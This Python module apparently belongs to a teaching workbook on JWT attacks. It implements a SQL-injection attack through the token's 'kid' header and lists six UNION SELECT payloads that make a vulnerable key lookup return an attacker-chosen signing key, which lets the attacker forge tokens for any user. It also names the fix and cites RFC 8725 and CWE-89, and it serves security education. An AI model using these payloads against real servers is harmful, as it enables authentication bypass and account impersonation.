"""Where the server looks a key up in a database, and puts `kid` into the SQL as it
comes, the attacker writes the end of that query themselves. It then answers with a key
of their choice, and they sign a token for any user with it. What stops it is a query
with parameters, and a `kid` that is refused unless it is known."""

from workbook.attacks.attack import ClassicAttack, paragraph
from workbook.attacks.classics.forging import original, random_key, show_each
from workbook.attacks.target import Target

KEY = "forged"
# The query may want one column or more, in single quotes or in double ones.
INJECTIONS = (
    f"x' UNION SELECT '{KEY}",
    f"x' UNION SELECT '{KEY}' -- ",
    f"x' UNION SELECT '{KEY}', '{KEY}' -- ",
    f"x' UNION SELECT '{KEY}', '{KEY}', '{KEY}' -- ",
    f'x" UNION SELECT "{KEY}',
    f"-1 UNION SELECT '{KEY}' -- ",
)


def attempt(target: Target) -> tuple[bool, str]:
    token = original(target)
    forged = {
        f"kid {injection}": token.signed(KEY, kid=injection) for injection in INJECTIONS
    }
    return show_each(
        target,
        forged,
        control=token.signed(KEY, kid=random_key()),
        without=f"the key {KEY!r} and any kid",
    )


ATTACK = ClassicAttack(
    name="inject_sql_into_kid",
    title="Inject SQL into kid",
    attacker="anyone",
    has="network access, and a username",
    step="step04_jwt",
    mistake="kid allows SQL injection",
    shows="A token with kid x' UNION SELECT 'forged: 200 with johndoe@example.com.",
    sources="RFC 8725, sections 2.9 and 3.10; CWE-89.",
    description=paragraph(__doc__),
    attempt=attempt,
)
